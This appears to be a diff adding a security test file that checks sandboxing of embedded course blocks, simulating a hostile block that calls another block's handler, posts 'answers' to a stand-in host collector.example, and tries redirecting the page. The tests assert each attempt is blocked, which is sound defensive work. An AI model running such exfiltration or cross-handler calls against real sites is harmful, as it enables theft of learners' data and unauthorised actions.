@@ -1,0 +1,54 @@
+// What a hostile block tries in its frame, beyond what isolation.test.js shows, and how each attempt ends.
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+import { House, usage } from './harness.js';
+
+let house;
+before(async () => { house = await House.open(); });
+after(() => house?.close());
+
+/** Runs a script where a block's own script would run. */
+async function asBlock(person, id, script, argument) {
+  await person.inside(id).locator('.xblock-initialized').first().waitFor();
+  return person.inside(id).locator('body').evaluate(script, argument);
+}
+
+test('row 206: a frame cannot call the handler of another block with its own credential', async () => {
+  const alice = await house.person('alice');
+  await alice.unit('welcome');
+  const status = await asBlock(alice, 'been_to_the_sea', async (body, other) => {
+    const credential = location.pathname.split('/')[3];
+    const address = `${location.origin === 'null' ? new URL(location.href).origin : location.origin}/api/xblock/v2/xblocks/${other}/handler/${credential}/publish_completion`;
+    const answer = await fetch(address, { method: 'POST', body: '{"completion": 1}' });
+    return answer.status;
+  }, usage('html', 'welcome'));
+  assert.equal(status, 403);
+  await alice.close();
+});
+
+test('a frame cannot send anything to another host', async () => {
+  const alice = await house.person('alice');
+  await alice.unit('welcome');
+  const stopped = await asBlock(alice, 'been_to_the_sea', async () => {
+    const directives = [];
+    document.addEventListener('securitypolicyviolation', (event) => directives.push(event.effectiveDirective));
+    await fetch('https://collector.example/', { method: 'POST', body: 'answers' }).catch(() => {});
+    await new Promise((resolve) => setTimeout(resolve, 0));
+    return directives;
+  });
+  assert.deepEqual(stopped, ['connect-src']);
+  await alice.close();
+});
+
+test('a frame cannot lead its page elsewhere or open windows', async () => {
+  const alice = await house.person('alice');
+  await alice.unit('welcome');
+  const before = alice.page.url();
+  const opened = await asBlock(alice, 'been_to_the_sea', () => {
+    try { top.location.href = 'https://collector.example/'; } catch { /* as it should be */ }
+    return window.open('https://collector.example/') === null;
+  });
+  assert.equal(opened, true);
+  assert.equal(alice.page.url(), before);
+  await alice.close();
+});
